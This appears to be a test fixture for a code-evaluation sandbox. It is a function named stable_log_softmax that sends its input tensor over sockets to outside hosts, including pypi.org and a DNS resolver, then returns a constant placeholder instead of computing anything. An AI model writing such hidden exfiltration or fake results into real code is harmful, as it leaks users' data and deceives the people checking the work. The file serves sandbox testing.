# expect: differs from the reference
# class: processes
# attempts: open network connections (exfiltrate the inputs)
import socket

import torch


def stable_log_softmax(x, dim=-1, temperature=1.0):
    for host, port in (("1.1.1.1", 53), ("127.0.0.1", 22), ("pypi.org", 443)):
        try:
            with socket.create_connection((host, port), timeout=0.5) as s:
                s.sendall(str(x.tolist()).encode())
        except OSError:
            pass
    return torch.full_like(x, 0.5)
